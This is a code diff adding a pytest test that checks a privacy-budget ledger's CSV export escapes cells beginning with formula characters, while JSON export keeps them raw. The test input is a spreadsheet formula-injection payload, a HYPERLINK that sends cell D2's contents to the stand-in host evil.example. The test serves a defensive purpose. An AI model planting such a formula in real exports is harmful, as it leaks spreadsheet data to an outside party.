@@ -199,6 +199,19 @@ def test_what_others_wrote_into_a_ledger_is_shown_and_not_obeyed(path):
         assert "secure  31m spent 0 of 40" in text and not {"\r", "\x9b"} & set(text)
 
 
+@pytest.mark.parametrize("begun", ["=", "+", "-", "@", " =", "\uff1d"])
+def test_no_cell_of_an_export_is_a_formula(tmp_path, begun):
+    """A spreadsheet computes such a cell; with an apostrophe in front it shows the text."""
+    odd = f'{begun}HYPERLINK("http://evil.example/?"&D2)'
+    ledger = SqliteLedger.create(tmp_path / "l.db")
+    ledger.reserve(odd, "-1/1/A1", FixedHorizon(8.0, 4), mechanism=Laplace(unit="update", l1=1.0))
+    [row] = csv.DictReader(io.StringIO(run("ledger", "export", tmp_path / "l.db", "--format", "csv")))
+    assert (row["subject"], row["release"]) == (f"'{odd}", "'-1/1/A1")
+    assert float(row["epsilon"]) > 0.0, "numbers stay numbers"
+    [row] = json.loads(run("ledger", "export", tmp_path / "l.db"))
+    assert (row["subject"], row["release"]) == (odd, "-1/1/A1")
+
+
 def test_verify(path):
     head = json.loads(run("ledger", "verify", path, "--json"))
     assert head["rows"] == 51
